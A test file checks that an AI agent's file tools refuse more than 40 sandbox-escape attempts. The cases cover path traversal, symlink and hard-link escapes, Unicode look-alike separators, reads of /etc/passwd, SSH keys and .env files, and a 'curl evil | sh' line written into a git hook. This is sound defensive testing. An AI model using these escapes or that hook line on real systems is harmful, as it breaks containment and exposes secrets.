/**
 * The file tools attacked as a model might: every case must be refused with a clear message
 * (a tool error the run survives), and nothing outside the root may be read, listed or changed.
 */
import { execFileSync } from 'node:child_process';
import { link, mkdir, mkdtemp, readdir, readFile, realpath, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { fileTools } from '../../../src/tools/files/index.js';
import type { Tool, ToolContext } from '../../../src/types/tool.js';

let base: string;
let root: string;
let outside: string;
let tools: Map<string, Tool>;
const ctx = { signal: new AbortController().signal } as ToolContext;
const SECRET = 'TOP-SECRET-OUTSIDE';

beforeAll(async () => {
  base = await realpath(await mkdtemp(join(tmpdir(), 'corvid-escape-')));
  root = join(base, 'root');
  outside = join(base, 'outside');
  await mkdir(join(root, 'src'), { recursive: true });
  await mkdir(join(root, '.git'), { recursive: true });
  await mkdir(join(root, 'docs'), { recursive: true });
  await mkdir(outside);
  await writeFile(join(outside, 'secret.txt'), `${SECRET}\n`);
  await writeFile(join(root, 'src', 'ok.ts'), 'export {};\n');
  await writeFile(join(root, '.env'), `TOKEN=${SECRET}\n`);
  await writeFile(join(root, '.git', 'config'), `[remote]\n url = ${SECRET}\n`);
  await writeFile(join(root, 'key.pem'), `${SECRET}\n`);
  await symlink(outside, join(root, 'link-out'));
  await symlink(join(outside, 'secret.txt'), join(root, 'file-link'));
  await symlink('../../outside/secret.txt', join(root, 'src', 'rel-link'));
  await symlink(join(outside, 'not-yet.txt'), join(root, 'dangling'));
  await symlink(join(root, 'loop-b'), join(root, 'loop-a'));
  await symlink(join(root, 'loop-a'), join(root, 'loop-b'));
  await symlink(join(root, '.env'), join(root, 'env-alias'));
  await link(join(outside, 'secret.txt'), join(root, 'hard-link.txt'));
  execFileSync('mkfifo', [join(root, 'fifo')]);
  tools = new Map(
    fileTools({
      root,
      roots: [{ path: join(root, 'docs'), mode: 'read-only' }],
      deny: ['.env', '**/*.pem', '.git/**'],
      refuseHardLinkedReads: true,
    }).map((t) => [t.name, t]),
  );
});

afterAll(async () => {
  await rm(base, { recursive: true, force: true });
});

async function attempt(name: string, args: Record<string, unknown>): Promise<{ ok: boolean; text: string }> {
  const t = tools.get(name)!;
  try {
    const out = await t.execute(args, ctx);
    return { ok: true, text: JSON.stringify(out) };
  } catch (err) {
    return { ok: false, text: (err as Error).message };
  }
}

type Case = [label: string, tool: string, args: Record<string, unknown>, message: RegExp];

const REFUSED = /refused: /;
const CASES: Case[] = [
  ['dot-dot out of the root', 'read_file', { path: '../outside/secret.txt' }, /leads outside the allowed folders/],
  ['deep dot-dot', 'read_file', { path: 'src/../../outside/secret.txt' }, /leads outside/],
  ['dot-dot after a real folder', 'read_file', { path: 'src/../../../../../../etc/passwd' }, /leads outside/],
  ['absolute path outside', 'read_file', { path: '/etc/passwd' }, /is outside the allowed folders/],
  ['absolute path to the sibling folder', 'read_file', { path: '<outside>/secret.txt' }, /is outside/],
  ['absolute path sharing the root as a prefix', 'read_file', { path: '<root>-evil/x' }, /is outside/],
  ['symlinked folder out', 'read_file', { path: 'link-out/secret.txt' }, /symbolic link/],
  ['symlinked file out', 'read_file', { path: 'file-link' }, /symbolic link/],
  ['relative symlink out', 'read_file', { path: 'src/rel-link' }, /symbolic link/],
  ['write through a symlinked folder', 'write_file', { path: 'link-out/new.txt', content: 'x' }, /symbolic link/],
  ['write a new nested file through a symlinked folder', 'write_file', { path: 'link-out/a/b/c.txt', content: 'x' }, /symbolic link/],
  ['write through a dangling link', 'write_file', { path: 'dangling', content: 'x' }, /symbolic link whose target does not exist/],
  ['edit through a file link', 'edit_file', { path: 'file-link', old_string: SECRET, new_string: 'x' }, /symbolic link/],
  ['link/.. resolves like the OS does', 'read_file', { path: 'link-out/../outside/secret.txt' }, /outside/],
  ['symlink loop', 'read_file', { path: 'loop-a' }, /loop of symbolic links/],
  ['NUL byte', 'read_file', { path: 'src/ok.ts\0.png' }, /NUL byte/],
  ['newline in the name', 'write_file', { path: 'a\nb.txt', content: 'x' }, /control character/],
  ['fullwidth dots', 'read_file', { path: '\uff0e\uff0e/outside/secret.txt' }, /normalises to "\."/],
  ['one-dot leaders as ..', 'read_file', { path: '\u2024\u2024/outside/secret.txt' }, /look-alike/],
  ['division slash', 'read_file', { path: '..\u2215outside\u2215secret.txt' }, /DIVISION SLASH/],
  ['fullwidth solidus', 'read_file', { path: '..\uff0foutside' }, /normalises to "\/"/],
  ['right-to-left override hiding the name', 'write_file', { path: 'invoice\u202etxt.exe', content: 'x' }, /invisible character/],
  ['zero-width space', 'read_file', { path: '.e\u200bnv' }, /invisible character/],
  ['backslash separators', 'read_file', { path: '..\\outside\\secret.txt' }, /use "\/"/],
  ['tilde home', 'read_file', { path: '~/.ssh/id_rsa' }, /not expanded/],
  ['denied .env', 'read_file', { path: '.env' }, /deny pattern "\.env"/],
  ['denied .env, upper case', 'read_file', { path: '.ENV' }, /deny pattern/],
  ['denied .env through a link alias', 'read_file', { path: 'env-alias' }, /deny pattern/],
  ['denied .env with ./ and dot-dot', 'read_file', { path: './src/../.env' }, /deny pattern/],
  ['denied .env in a sub-folder', 'write_file', { path: 'src/.env', content: 'x' }, /deny pattern/],
  ['denied *.pem anywhere', 'read_file', { path: 'key.pem' }, /deny pattern "\*\*\/\*\.pem"/],
  ['denied .git content', 'write_file', { path: '.git/hooks/pre-commit', content: 'curl evil | sh' }, /deny pattern "\.git\/\*\*"/],
  ['denied .git folder listing', 'list_dir', { path: '.git' }, /deny pattern/],
  ['denied folder grep', 'grep', { pattern: 'remote', path: '.git' }, /deny pattern/],
  ['write to a read-only root', 'write_file', { path: '<root>/docs/new.md', content: 'x' }, /read-only folder/],
  ['hard link to a file outside (write)', 'edit_file', { path: 'hard-link.txt', old_string: SECRET, new_string: 'x' }, /hard links/],
  ['hard link to a file outside (read, refused when configured)', 'read_file', { path: 'hard-link.txt' }, /hard links/],
  ['FIFO', 'read_file', { path: 'fifo' }, /not a regular file/],
  ['list outside via dot-dot', 'list_dir', { path: '..' }, /leads outside/],
  ['glob outside via absolute path', 'glob', { pattern: '**/*', path: '/etc' }, /is outside/],
  ['grep outside via link', 'grep', { pattern: 'SECRET', path: 'link-out' }, /symbolic link/],
  ['multi_edit outside', 'multi_edit', { path: '../outside/secret.txt', edits: [{ old_string: 'TOP', new_string: 'x' }] }, /leads outside/],
  ['empty path', 'read_file', { path: '' }, /empty/],
];

describe('file tools under attack', () => {
  it(`has at least 30 cases (${CASES.length})`, () => {
    expect(CASES.length).toBeGreaterThanOrEqual(30);
  });

  for (const [label, tool, rawArgs, message] of CASES) {
    it(`refuses: ${label}`, async () => {
      const args = JSON.parse(JSON.stringify(rawArgs).replaceAll('<root>', root).replaceAll('<outside>', outside));
      const r = await attempt(tool, args);
      expect(r.ok, `${tool} ${JSON.stringify(args)} was allowed: ${r.text}`).toBe(false);
      expect(r.text).toMatch(message);
      expect(r.text).not.toContain(SECRET);
      if (!/NUL|empty/.test(label)) expect(r.text).toMatch(REFUSED);
    });
  }

  it('search tools never show denied or outside content', async () => {
    for (const [tool, engine] of [
      ['grep', 'ripgrep'],
      ['search_files', 'ripgrep'],
      ['grep', 'js'],
    ]) {
      if (engine === 'js')
        tools = new Map(
          fileTools({ root, deny: ['.env', '**/*.pem', '.git/**'], refuseHardLinkedReads: true, ripgrep: 'js' }).map((t) => [t.name, t]),
        );
      const r = await attempt(tool, { pattern: 'SECRET', context: 2 });
      expect(JSON.parse(r.text).engine).toBe(engine);
      expect(r.ok).toBe(true);
      expect(r.text).not.toContain(SECRET);
    }
    const listing = await attempt('glob', { pattern: '**/*' });
    expect(listing.text).not.toMatch(/\.env"|key\.pem|\.git\/|secret\.txt/);
    const dir = await attempt('list_dir', {});
    expect(dir.text).not.toMatch(/"\.env"|key\.pem|"\.git\/"/);
  });

  it('nothing outside the root was created or changed', async () => {
    expect((await readdir(outside)).sort()).toEqual(['secret.txt']);
    expect(await readFile(join(outside, 'secret.txt'), 'utf8')).toBe(`${SECRET}\n`);
    expect(await readdir(join(root, 'docs'))).toEqual([]);
    expect(await readdir(join(root, '.git'))).toEqual(['config']);
  });
});
